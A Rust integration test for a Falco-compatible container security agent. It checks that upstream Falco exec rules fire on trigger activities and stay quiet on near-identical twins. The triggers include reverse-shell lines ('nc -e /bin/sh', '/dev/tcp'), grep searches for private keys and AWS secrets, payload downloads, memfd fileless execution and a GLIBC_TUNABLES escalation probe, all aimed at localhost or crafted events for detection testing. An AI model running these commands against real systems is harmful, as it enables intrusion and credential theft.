//! Falco's upstream exec rules (every rule built on `spawned_process` in the pinned stable,
//! incubating and sandbox files) on driftwatch's exec events in real containers: each rule's
//! trigger fires it with the right container and process, and a nearly identical quiet
//! activity does not (issue 17, item 3).
//!
//! The agent loads the upstream files unchanged, in Falco's order, then one tuning file a
//! Falco user could write: it appends the container's id to the outputs the scenarios read
//! (upstream outputs name no container; Falco users add one the same way), enables the rule
//! upstream ships disabled, and narrows `allowed_containers` as Falco's docs tell users to.
//!
//! Where a tool has no offline copy here, the trigger runs a stand-in under the tool's name (a
//! link to busybox, or a shell script when the tool must start children): those rules match
//! `proc.name`, the kernel's comm, which is the name a process was executed under, exactly
//! what a renamed attacker tool shows Falco too. Rules about processes on the host cannot
//! fire on driftwatch's events (it reports processes in containers only); they are fed a
//! crafted event through `driftwatch rules test` in
//! [`crafted_events_fire_the_rules_no_container_here_can`], as are the rules needing a
//! `--privileged` container, which dockerd here cannot start.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use driftwatch_testkit::*;
use serde_json::Value;

/// The binary under test (cargo builds it for this crate's integration tests).
const DRIFTWATCH: &str = env!("CARGO_BIN_EXE_driftwatch");

/// How long the alerts of a group may take, after its last activity.
const SETTLE: Duration = Duration::from_secs(25);

const STABLE: &str = "falco_rules.yaml";
const INCUBATING: &str = "falco-incubating_rules.yaml";
const SANDBOX: &str = "falco-sandbox_rules.yaml";

/// What a scenario does in its container.
#[derive(Clone, Debug)]
enum Act {
    /// `docker exec CONTAINER ARGV...`: runc executes ARGV[0] by its path.
    Run(&'static [&'static str]),
    /// `docker exec CONTAINER sh -c SCRIPT`. Busybox's shell runs an applet named bare by
    /// re-executing `/proc/self/exe` (comm `exe`, for Falco as for driftwatch): scripts name
    /// the programs whose `proc.name` a rule tests by their path.
    Sh(String),
    /// `docker exec -t CONTAINER ARGV...`: with a terminal, as `kubectl exec -t` gives one.
    Tty(&'static [&'static str]),
    /// `docker exec -u USER CONTAINER sh -c SCRIPT`.
    As(&'static str, String),
    /// Nothing after the start: starting the container is the activity.
    Start,
}

/// One upstream rule: the activity that must fire it and a nearly identical one that must not.
struct Scenario {
    rule: &'static str,
    /// The upstream file that defines it.
    file: &'static str,
    /// The image of the trigger's container, then of the quiet one's.
    image: &'static str,
    quiet_image: &'static str,
    /// `docker run` flags of the trigger's container, then of the quiet one's.
    trigger_run: &'static [&'static str],
    quiet_run: &'static [&'static str],
    trigger: Act,
    quiet: Act,
    /// `proc.name` of the process the alert must name.
    process: &'static str,
    /// Why the scenario cannot pass yet, and whose part it waits on: it is then expected to
    /// fail (the test prints it), and passing fails the test so the mark is removed.
    blocked_on: Option<&'static str>,
}

fn sh(s: &str) -> Act {
    Act::Sh(s.to_string())
}

/// `sh -c` of `/tmp/standin/NAME ARGS`, a link to busybox: its comm (`proc.name`) is NAME.
fn standin(name: &str, args: &str) -> Act {
    Act::Sh(format!(
        "mkdir -p /tmp/standin && ln -sf /bin/busybox /tmp/standin/{name} \
         && /tmp/standin/{name} {args}; true"
    ))
}

/// `sh -c` of `/tmp/standin/NAME`, a shell script running `body`: a process named NAME (a
/// script's comm is the script's name) that starts children.
fn standin_script(name: &str, body: &str) -> Act {
    Act::Sh(format!(
        "mkdir -p /tmp/standin && printf '#!/bin/sh\\n%s\\n' '{body}' > /tmp/standin/{name} \
         && chmod 755 /tmp/standin/{name} && /tmp/standin/{name}"
    ))
}

/// busybox httpd serving a CGI script running `body`, then one request for it: the web server
/// forks and executes the CGI (comm `run`), whose children have httpd as grandparent.
fn web_cgi(body: &str) -> Act {
    Act::Sh(format!(
        "mkdir -p /www/cgi-bin && printf '#!/bin/sh\\necho\\n%s\\n' '{body}' > /www/cgi-bin/run \
         && chmod 755 /www/cgi-bin/run && /usr/sbin/httpd -p 127.0.0.1:8080 -h /www && sleep 0.3 \
         && printf 'GET /cgi-bin/run HTTP/1.0\\r\\n\\r\\n' | /usr/bin/nc -w 3 127.0.0.1 8080 >/dev/null"
    ))
}

/// Python in the Debian image executing `/bin/true` from a memfd (comm `3`, the descriptor's
/// name in /proc/self/fd) or, quiet, from its path.
fn python_exec(from_memfd: bool) -> Act {
    let target = if from_memfd {
        "fd = os.memfd_create(\"x\"); os.write(fd, open(\"/bin/true\", \"rb\").read()); \
         os.execv(\"/proc/self/fd/%d\" % fd, [\"x\"])"
    } else {
        "os.execv(\"/bin/true\", [\"x\"])"
    };
    Act::Sh(format!("python3 -c 'import os; {target}'"))
}

/// Every upstream exec rule that can run in a container here, with its trigger and quiet twin.
fn scenarios() -> Vec<Scenario> {
    let plain = |rule, file, image, trigger: Act, quiet: Act, process| Scenario {
        rule,
        file,
        image,
        quiet_image: image,
        trigger_run: &[],
        quiet_run: &[],
        trigger,
        quiet,
        process,
        blocked_on: None,
    };
    // Starting the container is the activity: its init (`sleep`, pid 1 in the container).
    let started = |rule, file, trigger_run, quiet_run| Scenario {
        trigger_run,
        quiet_run,
        ..plain(rule, file, BUSYBOX, Act::Start, Act::Start, "sleep")
    };
    vec![
        // --- stable -------------------------------------------------------------------------
        plain(
            "Terminal shell in container",
            STABLE,
            BUSYBOX,
            Act::Tty(&["sh", "-c", "true"]),
            Act::Run(&["sh", "-c", "true"]),
            "sh",
        ),
        plain(
            "Netcat Remote Code Execution in Container",
            STABLE,
            BUSYBOX,
            Act::Run(&["nc", "-w", "1", "127.0.0.1", "9", "-e", "/bin/sh"]),
            Act::Run(&["nc", "-w", "1", "127.0.0.1", "9"]),
            "nc",
        ),
        plain(
            "Search Private Keys or Passwords",
            STABLE,
            BUSYBOX,
            Act::Run(&["grep", "-r", "BEGIN PRIVATE", "/etc"]),
            Act::Run(&["grep", "-r", "BEGIN CERTIFICATE", "/etc"]),
            "grep",
        ),
        plain(
            "Remove Bulk Data from Disk",
            STABLE,
            BUSYBOX,
            sh("echo data > /tmp/bulk && /usr/bin/shred -u /tmp/bulk"),
            sh("echo data > /tmp/bulk && /bin/rm -f /tmp/bulk"),
            "shred",
        ),
        plain(
            "Find AWS Credentials",
            STABLE,
            BUSYBOX,
            Act::Run(&["grep", "-r", "aws_secret_access_key", "/root"]),
            Act::Run(&["grep", "-r", "aws_region", "/root"]),
            "grep",
        ),
        plain(
            "Execution from /dev/shm",
            STABLE,
            BUSYBOX,
            sh("echo true > /dev/shm/run.sh && /bin/sh /dev/shm/run.sh"),
            sh("echo true > /tmp/run.sh && /bin/sh /tmp/run.sh"),
            "sh",
        ),
        plain(
            "Drop and execute new binary in container",
            STABLE,
            BUSYBOX,
            sh("cp /bin/busybox /tmp/dropped && /tmp/dropped true"),
            sh("/bin/busybox true"),
            "dropped",
        ),
        plain(
            "Fileless execution via memfd_create",
            STABLE,
            DEBIAN,
            python_exec(true),
            python_exec(false),
            "3",
        ),
        plain(
            "Run shell untrusted",
            STABLE,
            BUSYBOX,
            web_cgi("/bin/sh -c \"id >/dev/null\""),
            web_cgi("/usr/bin/id >/dev/null"),
            "sh",
        ),
        plain(
            "System user interactive",
            STABLE,
            DEBIAN,
            Act::As("nobody", "timeout 2 login </dev/null; true".into()),
            Act::As("nobody", "timeout 2 logname </dev/null; true".into()),
            "login",
        ),
        // --- incubating ---------------------------------------------------------------------
        plain(
            "Schedule Cron Jobs",
            INCUBATING,
            BUSYBOX,
            Act::Run(&["crontab", "-l"]),
            Act::Run(&["ls", "/var/spool/cron"]),
            "crontab",
        ),
        plain(
            "DB program spawned process",
            INCUBATING,
            BUSYBOX,
            standin_script("mysqld", "/bin/ls / >/dev/null"),
            standin_script("mysqld_safe", "/bin/ls / >/dev/null"),
            "ls",
        ),
        started(
            "Launch Excessively Capable Container",
            INCUBATING,
            &["--cap-add", "SYS_ADMIN"],
            &[],
        ),
        plain(
            "Program run with disallowed http proxy env",
            INCUBATING,
            BUSYBOX,
            Act::Run(&[
                "env",
                "HTTP_PROXY=http://127.0.0.1:9",
                "/usr/bin/wget",
                "-q",
                "-T",
                "1",
                "-O",
                "/dev/null",
                "http://127.0.0.1:9/",
            ]),
            Act::Run(&[
                "env",
                "NO_PROXY=127.0.0.1",
                "/usr/bin/wget",
                "-q",
                "-T",
                "1",
                "-O",
                "/dev/null",
                "http://127.0.0.1:9/",
            ]),
            "wget",
        ),
        plain(
            "Launch Package Management Process in Container",
            INCUBATING,
            DEBIAN,
            sh("dpkg -l >/dev/null"),
            sh("dpkg-query -l >/dev/null"),
            "dpkg",
        ),
        plain(
            "Launch Suspicious Network Tool in Container",
            INCUBATING,
            BUSYBOX,
            Act::Run(&["nc", "-w", "1", "127.0.0.1", "9"]),
            Act::Run(&["netstat", "-tln"]),
            "nc",
        ),
        plain(
            "Launch Remote File Copy Tools in Container",
            INCUBATING,
            BUSYBOX,
            standin("scp", "/etc/hostname /tmp/copy"),
            Act::Run(&["cp", "/etc/hostname", "/tmp/copy"]),
            "scp",
        ),
        plain(
            "Launch Ingress Remote File Copy Tools in Container",
            INCUBATING,
            BUSYBOX,
            Act::Run(&[
                "wget",
                "-q",
                "-T",
                "1",
                "-O",
                "/tmp/payload",
                "http://127.0.0.1:9/p",
            ]),
            Act::Run(&["nc", "-w", "1", "127.0.0.1", "9"]),
            "wget",
        ),
        plain(
            "Potential Local Privilege Escalation via Environment Variables Misuse",
            INCUBATING,
            BUSYBOX,
            Act::Run(&["env", "GLIBC_TUNABLES=glibc.malloc.mxfast=0", "/bin/true"]),
            Act::Run(&["env", "GLIBC_OTHER=glibc.malloc.mxfast=0", "/bin/true"]),
            "true",
        ),
        // --- sandbox ------------------------------------------------------------------------
        Scenario {
            ..started(
                "Launch Sensitive Mount Container",
                SANDBOX,
                &["-v", "/etc:/host/etc:ro"],
                &["-v", "/usr/share:/host/share:ro"],
            )
        },
        // The tuning file allows only the Debian image: busybox is disallowed.
        Scenario {
            quiet_image: DEBIAN,
            ..started("Launch Disallowed Container", SANDBOX, &[], &[])
        },
        plain(
            "Detect crypto miners using the Stratum protocol",
            SANDBOX,
            BUSYBOX,
            Act::Run(&["sh", "-c", "true stratum+tcp://pool.example:3333"]),
            Act::Run(&["sh", "-c", "true http+tcp://pool.example:3333"]),
            "sh",
        ),
        plain(
            "Kubernetes Client Tool Launched in Container",
            SANDBOX,
            BUSYBOX,
            standin("kubectl", "get pods"),
            standin("helm", "list"),
            "kubectl",
        ),
        // Upstream ships it disabled; the tuning file enables it as a user would.
        started(
            "Container Run as Root User",
            SANDBOX,
            &[],
            &["--user", "1000"],
        ),
        plain(
            "Sudo Potential Privilege Escalation",
            SANDBOX,
            BUSYBOX,
            standin("sudoedit", "-s 'x\\'"),
            standin("sudoedit", "-s x"),
            "sudoedit",
        ),
        plain(
            "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
            SANDBOX,
            BUSYBOX,
            standin("pkexec", ""),
            standin("pkexec", "--version"),
            "pkexec",
        ),
        plain(
            "Decoding Payload in Container",
            SANDBOX,
            BUSYBOX,
            sh("echo aGVsbG8K | /bin/base64 -d >/dev/null"),
            sh("echo hello | /bin/base64 >/dev/null"),
            "base64",
        ),
        plain(
            "Basic Interactive Reconnaissance",
            SANDBOX,
            BUSYBOX,
            Act::Tty(&["whoami"]),
            Act::Run(&["whoami"]),
            "whoami",
        ),
        plain(
            "Network Tool Executed During NPM Package Install",
            SANDBOX,
            BUSYBOX,
            standin_script("npm", "/usr/bin/nc -w 1 127.0.0.1 9; true"),
            standin_script("npm", "/bin/ls / >/dev/null"),
            "nc",
        ),
        plain(
            "Known Cryptominer Process Executed",
            SANDBOX,
            BUSYBOX,
            standin("xmrig", "--version"),
            standin("xmrig-proxy", "--version"),
            "xmrig",
        ),
        plain(
            "Web Server Spawned Shell",
            SANDBOX,
            BUSYBOX,
            web_cgi("/bin/sh -c \"id >/dev/null\""),
            web_cgi("/bin/sh -c /usr/bin/id"),
            "sh",
        ),
        plain(
            "Web Server Spawned Suspicious Child Process",
            SANDBOX,
            BUSYBOX,
            web_cgi("/usr/bin/id >/dev/null"),
            web_cgi("/bin/ls / >/dev/null"),
            "id",
        ),
        plain(
            "Reverse Shell from Web Server",
            SANDBOX,
            BUSYBOX,
            web_cgi("/bin/sh -c \"exec 3<>/dev/tcp/127.0.0.1/9\""),
            web_cgi("/bin/sh -c \"exec 3<>/tmp/web.out\""),
            "sh",
        ),
    ]
}

/// What each upstream exec rule's condition needs of an event (through its macros), printed
/// with a failure so it names whose part to look at.
const NEEDS: [(&str, &str); 39] = [
    (
        "Terminal shell in container",
        "proc.name, proc.tty, proc.pname (container_entrypoint)",
    ),
    (
        "Netcat Remote Code Execution in Container",
        "proc.name, proc.cmdline, proc.args",
    ),
    ("Search Private Keys or Passwords", "proc.name, proc.args"),
    ("Remove Bulk Data from Disk", "proc.name"),
    ("Find AWS Credentials", "proc.name, proc.args"),
    (
        "Execution from /dev/shm",
        "proc.exe, proc.cwd, proc.args, container.image.repository",
    ),
    (
        "Drop and execute new binary in container",
        "proc.is_exe_upper_layer, container.image.repository",
    ),
    (
        "Fileless execution via memfd_create",
        "proc.is_exe_from_memfd, proc.name, proc.pname, proc.exepath, proc.exe",
    ),
    (
        "Run shell untrusted",
        "proc.name, proc.pname, proc.aname, proc.aname[N], proc.cmdline, proc.pcmdline",
    ),
    (
        "System user interactive",
        "user.name, proc.name, proc.aname",
    ),
    (
        "Schedule Cron Jobs",
        "proc.name (its exec half), fd.name (its open half)",
    ),
    (
        "DB program spawned process",
        "proc.name, proc.pname, proc.cmdline",
    ),
    (
        "Launch Excessively Capable Container",
        "proc.vpid, thread.cap_permitted, container.image.repository",
    ),
    (
        "Program run with disallowed http proxy env",
        "proc.name, proc.env",
    ),
    (
        "Launch Package Management Process in Container",
        "user.name, proc.name, proc.pname, proc.aname[2..4], proc.cmdline, container.image.repository",
    ),
    ("Launch Suspicious Network Tool in Container", "proc.name"),
    ("Launch Remote File Copy Tools in Container", "proc.name"),
    (
        "Launch Ingress Remote File Copy Tools in Container",
        "proc.name, proc.cmdline",
    ),
    (
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        "proc.env",
    ),
    (
        "Launch Sensitive Mount Container",
        "proc.vpid, container.mount.dest[SOURCE]",
    ),
    (
        "Launch Disallowed Container",
        "proc.vpid, container.id (tuned: container.image.repository)",
    ),
    (
        "Detect crypto miners using the Stratum protocol",
        "proc.cmdline",
    ),
    (
        "Kubernetes Client Tool Launched in Container",
        "proc.name, proc.aname",
    ),
    (
        "Container Run as Root User",
        "proc.vpid, user.uid (enabled by the tuning)",
    ),
    (
        "Sudo Potential Privilege Escalation",
        "user.loginuid, proc.name, proc.args",
    ),
    (
        "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
        "user.loginuid, proc.name, proc.args",
    ),
    (
        "Decoding Payload in Container",
        "proc.cmdline, container.image.repository",
    ),
    (
        "Basic Interactive Reconnaissance",
        "proc.name, proc.tty, proc.is_vpgid_leader",
    ),
    (
        "Network Tool Executed During NPM Package Install",
        "proc.name, proc.pname, proc.aname[2..5]",
    ),
    ("Known Cryptominer Process Executed", "proc.name"),
    (
        "Web Server Spawned Shell",
        "proc.name, proc.pname, proc.aname[2..3], proc.cmdline",
    ),
    (
        "Web Server Spawned Suspicious Child Process",
        "proc.name, proc.pname, proc.aname[2..3], proc.cmdline",
    ),
    (
        "Reverse Shell from Web Server",
        "proc.pname, proc.aname[2..3], proc.cmdline",
    ),
    (
        "User mgmt binaries",
        "container.id, proc.name, proc.pname, proc.aname[N], proc.aexe[2], proc.cmdline",
    ),
    (
        "Launch Suspicious Network Tool on Host",
        "container.id, proc.name",
    ),
    (
        "Netcat/Socat Remote Code Execution on Host",
        "container.id, proc.name, proc.cmdline, proc.args",
    ),
    (
        "Debugfs Launched in Privileged Container",
        "container.privileged, proc.name",
    ),
    (
        "Mount Launched in Privileged Container",
        "container.privileged, proc.name, proc.args",
    ),
    (
        "Launch Privileged Container",
        "proc.vpid, container.privileged, container.image.repository",
    ),
];

fn needs(rule: &str) -> &'static str {
    NEEDS
        .iter()
        .find(|(r, _)| *r == rule)
        .map_or("(not in NEEDS)", |(_, n)| n)
}

/// Why an upstream exec rule cannot fire in a container here.
const HOST_ONLY: &str = "`not container`: driftwatch reports processes in containers only";
const NO_PRIVILEGED: &str = "dockerd here cannot start --privileged containers (the host's \
     capability bounding set lacks CAP_SYS_RESOURCE): container.privileged=true is crafted";

/// An upstream exec rule no container here can fire: the crafted events (as driftwatch's exec
/// sensor reports them) that must fire it and must not, fed through `driftwatch rules test`.
struct Crafted {
    rule: &'static str,
    file: &'static str,
    why: &'static str,
    trigger: Value,
    quiet: Value,
    /// `proc.name` of the process the alert must name.
    process: String,
}

/// A crafted exec of `argv` with pid `vpid` in its namespace, in `container` (`None`: on the
/// host).
fn crafted_exec(argv: &[&str], vpid: u32, container: Option<Value>) -> Value {
    serde_json::json!({
        "time_ns": 1_796_655_503_614_141_389u64,
        // Numbered as the agent numbers events, from 1: upstream's `never_true` is
        // `evt.num=0`, true only of an unnumbered event.
        "num": 7,
        "kind": "execve",
        "process": {
            "pid": 4242, "ppid": 4241, "uid": 0, "gid": 0, "user_name": "root",
            "name": argv[0], "exepath": format!("/usr/bin/{}", argv[0]), "argv": argv,
            "cwd": "/root", "tty": 34816, "ancestors": ["bash", "sshd"],
            "pexepath": "/usr/bin/bash", "pargv": ["-bash"], "loginuid": 1000,
            "vpid": vpid, "sid": 4000, "vpgid": vpid,
        },
        "container": container,
    })
}

/// A crafted Docker container's metadata.
fn crafted_container(privileged: bool) -> Option<Value> {
    Some(serde_json::json!({
        "id": "0123456789ab0123456789ab0123456789ab0123456789ab0123456789ab0123",
        "engine": "docker",
        "name": "crafted",
        "image": {"repository": "driftwatch-test/debian", "tag": "12"},
        "privileged": privileged,
    }))
}

fn crafted() -> Vec<Crafted> {
    let host = |rule, file, argv: &[&str]| Crafted {
        rule,
        file,
        why: HOST_ONLY,
        trigger: crafted_exec(argv, 4242, None),
        quiet: crafted_exec(argv, 42, crafted_container(false)),
        process: argv[0].to_string(),
    };
    // Privileged or not, or (for the mount) a privileged `mount` that only lists.
    let privileged = |rule, file, trigger: &[&str], quiet: Value, vpid| Crafted {
        rule,
        file,
        why: NO_PRIVILEGED,
        trigger: crafted_exec(trigger, vpid, crafted_container(true)),
        quiet,
        process: trigger[0].to_string(),
    };
    vec![
        host("User mgmt binaries", INCUBATING, &["passwd", "alice"]),
        host(
            "Launch Suspicious Network Tool on Host",
            INCUBATING,
            &["nmap", "-sS", "10.0.0.0/24"],
        ),
        host(
            "Netcat/Socat Remote Code Execution on Host",
            SANDBOX,
            &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        ),
        privileged(
            "Debugfs Launched in Privileged Container",
            STABLE,
            &["debugfs", "-V"],
            crafted_exec(&["debugfs", "-V"], 42, crafted_container(false)),
            42,
        ),
        privileged(
            "Mount Launched in Privileged Container",
            INCUBATING,
            &["mount", "-t", "tmpfs", "tmpfs", "/mnt"],
            crafted_exec(&["mount"], 42, crafted_container(true)),
            42,
        ),
        privileged(
            "Launch Privileged Container",
            INCUBATING,
            &["sleep", "300"],
            crafted_exec(&["sleep", "300"], 1, crafted_container(false)),
            1,
        ),
    ]
}

/// The user's tuning file: container fields appended to the outputs of the rules under test,
/// the rule upstream ships disabled enabled, only the Debian image allowed, and a marker rule
/// telling the test that the agent watches a container.
fn tuning_file(dir: &Path, rules: &[&str]) -> PathBuf {
    let mut text = String::from("# Tuning as a Falco user writes it.\n");
    for rule in rules {
        text.push_str(&format!(
            "- rule: {rule}\n  output: container_id=%container.id container_name=%container.name\n  override:\n    output: append\n"
        ));
    }
    text.push_str(
        "- rule: Container Run as Root User\n  enabled: true\n  override:\n    enabled: replace\n\
         - macro: allowed_containers\n  condition: (container.image.repository in (\"driftwatch-test/debian\"))\n  override:\n    condition: replace\n\
         - rule: Exectests container watched\n  desc: The test's marker that the agent watches a container.\n  \
         condition: spawned_process and container and proc.args = \"dw-exectests-ready\"\n  \
         output: watched container_id=%container.id image=%container.image.repository\n  \
         priority: NOTICE\n  tags: [exectests]\n",
    );
    let path = dir.join("tuning.yaml");
    std::fs::write(&path, text).expect("writing the tuning file");
    path
}

/// Starts `docker exec` of `act` in `c`, waiting for it.
fn perform(c: &TestContainer, act: &Act) {
    let out = match act {
        Act::Start => return,
        Act::Run(argv) => {
            let mut all = vec!["exec", c.id.as_str()];
            all.extend_from_slice(argv);
            docker(&all)
        }
        Act::Sh(script) => docker(&["exec", &c.id, "sh", "-c", script]),
        Act::As(user, script) => docker(&["exec", "-u", user, &c.id, "sh", "-c", script]),
        Act::Tty(argv) => {
            let mut all = vec!["exec", "-t", c.id.as_str()];
            all.extend_from_slice(argv);
            docker(&all)
        }
    };
    assert!(
        out.status.code().is_some(),
        "docker exec in {} was killed: {out:?}",
        c.short()
    );
}

/// Waits until the agent reports the marker of every container with its image known.
fn until_watched(agent: &AgentProcess, containers: &[&TestContainer]) {
    let start = Instant::now();
    let mut waiting: BTreeSet<&str> = containers.iter().map(|c| c.short()).collect();
    while !waiting.is_empty() {
        for c in containers.iter().filter(|c| waiting.contains(c.short())) {
            let _ = c.exec(&["true", "dw-exectests-ready"]);
        }
        std::thread::sleep(Duration::from_millis(300));
        for a in agent.alerts() {
            if a["rule"] == "Exectests container watched"
                && field(&a, "container.image.repository")
                    .as_str()
                    .is_some_and(|r| r.starts_with("driftwatch-test/"))
                && let Some(id) = field(&a, "container.id").as_str()
            {
                waiting.remove(id);
            }
        }
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "the agent never reported the marker of {waiting:?}"
        );
    }
}

/// The alerts of `rule` in `c`.
fn alerts_of<'a>(alerts: &'a [Value], rule: &str, c: &TestContainer) -> Vec<&'a Value> {
    alerts
        .iter()
        .filter(|a| a["rule"] == rule && field(a, "container.id") == c.short())
        .collect()
}

/// One scenario's result: `Ok` when its trigger fired it as expected and its quiet twin did
/// not, else what went wrong.
fn judge(
    s: &Scenario,
    alerts: &[Value],
    t: &TestContainer,
    q: &TestContainer,
) -> Result<(), String> {
    let fired = alerts_of(alerts, s.rule, t);
    let quiet = alerts_of(alerts, s.rule, q);
    let named = fired.iter().find(|a| field(a, "proc.name") == s.process);
    let mut wrong = Vec::new();
    match (named, fired.first()) {
        (Some(a), _) => {
            if a["source"] != "syscall"
                || a["output"].as_str().is_none_or(|o| !o.contains(t.short()))
            {
                wrong.push(format!("alert not in Falco's shape for {}: {a}", t.short()));
            }
        }
        (None, Some(a)) => wrong.push(format!(
            "fired in {} naming process {} instead of {}: {a}",
            t.short(),
            field(a, "proc.name"),
            s.process
        )),
        (None, None) => wrong.push(format!("did not fire in {}", t.short())),
    }
    if let Some(a) = quiet.first() {
        wrong.push(format!("fired on the quiet activity in {}: {a}", q.short()));
    }
    if wrong.is_empty() {
        Ok(())
    } else {
        Err(wrong.join("; "))
    }
}

/// Runs every scenario of `file` against one agent with the upstream files and the tuning.
fn run_group(file: &str) {
    require!(Bpf, Docker, Image(BUSYBOX), Image(DEBIAN));
    let group: Vec<Scenario> = scenarios().into_iter().filter(|s| s.file == file).collect();
    let dir = tempfile::tempdir().unwrap();
    let rules: Vec<&str> = group.iter().map(|s| s.rule).collect();
    let tuning = tuning_file(dir.path(), &rules);
    let args = falco_upstream_rule_args(&[tuning]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let agent = AgentProcess::start(DRIFTWATCH, &args);

    let mut pairs = Vec::new();
    for s in &group {
        let run = |flags: &[&str], image| {
            let mut all: Vec<&str> = flags.to_vec();
            all.extend([image, "sleep", "300"]);
            TestContainer::run(&all)
        };
        pairs.push((run(s.trigger_run, s.image), run(s.quiet_run, s.quiet_image)));
    }
    let all: Vec<&TestContainer> = pairs.iter().flat_map(|(t, q)| [t, q]).collect();
    until_watched(&agent, &all);
    // Quiet first: by the time a trigger's alert is in, its twin's events went through.
    for (s, (t, q)) in group.iter().zip(&pairs) {
        perform(q, &s.quiet);
        perform(t, &s.trigger);
    }

    let deadline = Instant::now() + SETTLE;
    let mut alerts;
    loop {
        alerts = agent.alerts();
        let pending = group
            .iter()
            .zip(&pairs)
            .filter(|(s, (t, q))| judge(s, &alerts, t, q).is_err())
            .count();
        if pending == 0 || Instant::now() > deadline {
            break;
        }
        std::thread::sleep(Duration::from_millis(250));
    }
    // Late quiet alerts would show up within a moment of the triggers'.
    std::thread::sleep(Duration::from_secs(2));
    alerts = agent.alerts();

    let mut failures = Vec::new();
    let mut expected = Vec::new();
    for (s, (t, q)) in group.iter().zip(&pairs) {
        let verdict = judge(s, &alerts, t, q);
        match (verdict, s.blocked_on) {
            (Ok(()), None) => eprintln!("ok: {}", s.rule),
            (Ok(()), Some(why)) => failures.push(format!(
                "{}: passes although marked blocked on {why}; remove the mark",
                s.rule
            )),
            (Err(e), Some(why)) => expected.push(format!("{}: blocked on {why} ({e})", s.rule)),
            (Err(e), None) => {
                failures.push(format!("{}: {e} (it needs {})", s.rule, needs(s.rule)))
            }
        }
    }
    for e in &expected {
        eprintln!("expected failure: {e}");
    }
    assert!(
        failures.is_empty(),
        "{} of {} scenarios of {file} failed:\n{}\nagent log tail:\n{}",
        failures.len(),
        group.len(),
        failures.join("\n"),
        agent
            .log()
            .iter()
            .rev()
            .take(30)
            .rev()
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
}

#[test]
fn stable_exec_rules_fire_in_containers() {
    run_group(STABLE);
}

#[test]
fn incubating_exec_rules_fire_in_containers() {
    run_group(INCUBATING);
}

#[test]
fn sandbox_exec_rules_fire_in_containers() {
    run_group(SANDBOX);
}

/// `driftwatch rules test` of `events` with the upstream files: the alerts.
fn replay(events: &[Value]) -> Vec<Value> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("events.jsonl");
    let lines: String = events.iter().map(|e| format!("{e}\n")).collect();
    std::fs::write(&path, lines).unwrap();
    let mut args = vec![
        "rules".to_string(),
        "test".into(),
        "--no-rules-dir".into(),
        "--hostname".into(),
        "crafted".into(),
        "--events".into(),
        path.display().to_string(),
    ];
    args.extend(falco_upstream_rule_args(&[]));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = run_cli(DRIFTWATCH, &args);
    assert!(out.status.success(), "rules test failed: {}", text(&out));
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

/// The upstream exec rules no container here can fire, fed their crafted events through the
/// real loader and engine: each trigger fires its rule naming its process, no quiet twin does.
#[test]
fn crafted_events_fire_the_rules_no_container_here_can() {
    let cases = crafted();
    let fired = replay(&cases.iter().map(|c| c.trigger.clone()).collect::<Vec<_>>());
    let quiet = replay(&cases.iter().map(|c| c.quiet.clone()).collect::<Vec<_>>());
    for c in &cases {
        let hit = fired
            .iter()
            .find(|a| a["rule"] == c.rule && field(a, "proc.name") == c.process.as_str());
        let Some(hit) = hit else {
            panic!(
                "{} ({}) did not fire for {}; alerts: {fired:#?}",
                c.rule, c.why, c.trigger
            );
        };
        assert_eq!(hit["hostname"], "crafted", "{hit}");
        assert_eq!(hit["source"], "syscall", "{hit}");
        assert!(
            !quiet.iter().any(|a| a["rule"] == c.rule),
            "{} fired for its quiet twin {}: {quiet:#?}",
            c.rule,
            c.quiet
        );
    }
}

/// The upstream rules whose condition reaches `spawned_process` (through any macro), by file:
/// read from the pinned files as text, since the test must not trust the loader it checks.
fn upstream_exec_rules() -> BTreeMap<String, &'static str> {
    let mut macros: BTreeMap<String, String> = BTreeMap::new();
    let mut rules: Vec<(String, &'static str, String)> = Vec::new();
    for file in FALCO_UPSTREAM_FILES {
        let text = std::fs::read_to_string(falco_upstream_dir().join(file)).unwrap();
        for item in text.split("\n- ").skip(1) {
            let mut lines = item.lines();
            let head = lines.next().unwrap_or_default();
            // The `condition:` key and its folded continuation lines (indented deeper).
            let mut condition = String::new();
            let mut inside = false;
            for line in lines {
                if let Some(rest) = line.strip_prefix("  condition:") {
                    inside = true;
                    condition.push_str(rest);
                } else if inside && (line.starts_with("   ") || line.trim().is_empty()) {
                    condition.push(' ');
                    condition.push_str(line);
                } else {
                    inside = false;
                }
            }
            if let Some(name) = head.strip_prefix("macro: ") {
                macros.insert(name.trim().to_string(), condition);
            } else if let Some(name) = head.strip_prefix("rule: ") {
                rules.push((name.trim().to_string(), file, condition));
            }
        }
    }
    fn reaches(cond: &str, macros: &BTreeMap<String, String>, seen: &mut BTreeSet<String>) -> bool {
        cond.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
            .any(|word| {
                word == "spawned_process"
                    || (seen.insert(word.to_string())
                        && macros.get(word).is_some_and(|m| reaches(m, macros, seen)))
            })
    }
    rules
        .into_iter()
        .filter(|(_, _, cond)| reaches(cond, &macros, &mut BTreeSet::new()))
        .map(|(name, file, _)| (name, file))
        .collect()
}

/// The table above is every upstream exec rule: a new pin that adds one fails here until it
/// has a scenario or a stated reason.
#[test]
fn every_upstream_exec_rule_has_a_scenario() {
    let upstream = upstream_exec_rules();
    let mut covered: BTreeMap<String, &str> = scenarios()
        .iter()
        .map(|s| (s.rule.to_string(), s.file))
        .collect();
    covered.extend(crafted().iter().map(|c| (c.rule.to_string(), c.file)));
    assert!(upstream.len() >= 39, "the scan found too few: {upstream:?}");
    let needed: BTreeSet<&str> = NEEDS.iter().map(|(r, _)| *r).collect();
    let listed: BTreeSet<&str> = upstream.keys().map(String::as_str).collect();
    assert_eq!(needed, listed, "NEEDS names every upstream exec rule once");
    assert_eq!(
        upstream, covered,
        "upstream exec rules (left) and the scenarios (right) differ"
    );
}
